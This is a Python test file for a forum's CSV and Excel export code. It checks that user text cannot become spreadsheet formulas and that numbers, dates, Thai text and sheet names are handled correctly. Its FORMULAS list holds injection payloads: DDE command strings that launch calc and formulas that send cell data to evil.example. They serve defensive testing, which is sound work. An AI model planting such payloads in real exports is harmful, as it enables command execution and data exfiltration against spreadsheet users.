import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from forum.documents.spreadsheet import csv_bytes, xlsx_bytes

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "=SUM(A1:A9)",
    "=A1",
    "={1,2}",
    "==1",
    "=",
    "=\n1",
    "=ก1",
    "+1+1",
    "+66 81 000 0000",
    "+cmd|' /C calc'!A0",
    "++1",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-A1",
    "- เห็นด้วย",
    "@SUM(1+1)",
    "@someone",
    "@=1",
    "\t=1+1",
    "\tword",
    "\r=1+1",
    "\rword",
    "\n=1+1",
    "\nword",
    "\r\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
]
MARKS = "=+-@＝＋－＠\t\r\n"


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_sheet(content):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def test_there_are_at_least_forty_ways_to_smuggle_a_formula_tried_here():
    assert len(set(FORMULAS)) >= 40


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_somebody_wrote_is_text_in_csv_in_a_cell_and_as_a_heading(payload):
    heading, row = read_csv(csv_bytes([payload], [[payload]]))

    assert heading == row
    assert row[0].startswith("'")


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_somebody_wrote_is_text_in_a_workbook(payload):
    sheet = read_sheet(xlsx_bytes(payload, [payload], [[payload], ["after"]]))

    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert sheet["A2"].value.strip() == sheet["A1"].value.strip()
    assert sheet["A3"].value == "after"


@given(st.text(max_size=20))
def test_no_text_becomes_a_formula_in_csv(text):
    ((cell,),) = read_csv(csv_bytes(["h"], [[text]]))[1:]

    assert cell.lstrip()[:1] not in set(MARKS)


@given(st.text(max_size=20))
def test_no_text_becomes_a_formula_in_a_workbook(text):
    sheet = read_sheet(xlsx_bytes("s", ["h"], [[text], ["after"]]))

    assert sheet["A2"].data_type in {"s", "n"}  # n: an empty cell
    assert not isinstance(sheet["A2"].value, int | float)


def test_a_program_that_cuts_at_semicolons_finds_no_formula_either():
    line = csv_bytes(["a"], [["x;=1+1", 3]]).decode("utf-8-sig").split("\r\n")[1]

    assert line == '"x;=1+1",3'


def test_csv_opens_in_excel_as_thai():
    content = csv_bytes(["ภาคส่วน"], [["ราชการ"]])

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == '"ภาคส่วน"\r\n"ราชการ"\r\n'


NUMBERS = [-5, 0, 3, 2.5, Decimal("-0.25")]


def test_numbers_stay_numbers_even_below_nought():
    rows = [[number] for number in NUMBERS]

    sheet = read_sheet(xlsx_bytes("s", ["h"], rows))

    assert [cell.value for (cell,) in sheet.iter_rows(min_row=2)] == [float(n) for n in NUMBERS]
    assert [row[0] for row in read_csv(csv_bytes(["h"], rows))[1:]] == [str(n) for n in NUMBERS]


@pytest.mark.parametrize("number", [float("nan"), float("inf"), 10**20])
def test_numbers_no_spreadsheet_can_hold_are_written_out(number):
    sheet = read_sheet(xlsx_bytes("s", ["h"], [[number]]))

    assert sheet["A2"].value == str(number)
    assert read_csv(csv_bytes(["h"], [[number]]))[1] == [str(number)]


def test_digits_in_text_stay_text():
    sheet = read_sheet(xlsx_bytes("s", ["โทรศัพท์"], [["0810000000"]]))

    assert (sheet["A2"].value, sheet["A2"].data_type) == ("0810000000", "s")


def test_dates_truth_and_empty_cells_keep_their_kind():
    row = [date(2026, 12, 12), datetime(2026, 12, 12, 9, 30, tzinfo=UTC), True, None]

    sheet = read_sheet(xlsx_bytes("s", list("abcd"), [row]))

    values = [cell.value for cell in sheet[2]]
    assert values == [datetime(2026, 12, 12), datetime(2026, 12, 12, 9, 30), True, None]  # noqa: DTZ001
    written = ["2026-12-12", "2026-12-12T09:30:00+00:00", "TRUE", ""]
    assert read_csv(csv_bytes(list("abcd"), [row]))[1] == written


def test_the_header_stays_in_sight_and_the_font_knows_thai():
    sheet = read_sheet(xlsx_bytes("ผล", ["ภาคส่วน"], [["ราชการ"]]))

    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet["A2"].font.name == "TH Sarabun New"
    assert sheet.title == "ผล"


@pytest.mark.parametrize("name", ["", "a/b:c", "'x'", "History", "ก" * 50, "[x]*?\\", "\x00"])
def test_any_name_makes_a_sheet(name):
    sheet = read_sheet(xlsx_bytes(name, ["h"], []))

    assert 1 <= len(sheet.title) <= 31


def test_a_text_longer_than_a_cell_is_cut_and_says_so():
    sheet = read_sheet(xlsx_bytes("s", ["h"], [["ก" * 40_000]]))

    assert len(sheet["A2"].value) == 32_767
    assert sheet["A2"].value.endswith("…")


def test_the_same_rows_give_the_same_file():
    rows = [["ก", 1]]

    assert xlsx_bytes("s", ["a", "b"], rows) == xlsx_bytes("s", ["a", "b"], rows)
